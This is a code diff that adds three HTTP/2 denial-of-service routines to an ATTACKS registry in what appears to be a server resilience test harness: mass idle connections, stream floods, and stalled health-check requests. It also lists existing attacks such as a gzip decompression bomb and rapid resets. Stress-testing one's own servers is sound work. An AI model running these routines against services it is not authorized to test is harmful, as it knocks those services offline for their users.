@@ -115,6 +115,33 @@ def silent_connections(target: str, connections: int = 200) -> None:
         time.sleep(1)
 
 
+def many_connections(target: str, connections: int = 2_000) -> None:
+    """Open many connections with the first words of HTTP/2, and say nothing more."""
+    with contextlib.ExitStack() as stack:
+        for _ in range(connections):
+            with contextlib.suppress(ConnectionGoneError):
+                stack.enter_context(Http2Connection(target))
+        time.sleep(3)
+
+
+def many_calls(target: str, connections: int = 8, calls: int = 100) -> None:
+    """Begin many calls at once, on several connections."""
+    with contextlib.ExitStack() as stack:
+        made = [stack.enter_context(Http2Connection(target)) for _ in range(connections)]
+        streams = {each: [each.open(RESOLVE) for _ in range(calls)] for each in made}
+        for connection, opened in streams.items():
+            connection.wait(opened)
+
+
+def silent_checks(target: str, connections: int = 300) -> None:
+    """Ask for the health of the server, without the message, on a connection of its own each."""
+    with contextlib.ExitStack() as stack:
+        for _ in range(connections):
+            connection = stack.enter_context(Http2Connection(target))
+            connection.send(connection.open(HEALTH_CHECK), message(b"", MOST))
+        time.sleep(2)
+
+
 def compressed_messages(target: str) -> None:
     """Send 15 KiB that become 15 MiB, where no token is needed and where one is."""
     bomb = message(gzip.compress(b"\0" * 15 * MIB), compressed=True)
@@ -229,6 +256,9 @@ ATTACKS: Mapping[str, Attack] = {
             half_message_connections,
             lasting_streams,
             silent_connections,
+            many_connections,
+            many_calls,
+            silent_checks,
             compressed_messages,
             much_metadata,
             rapid_resets,
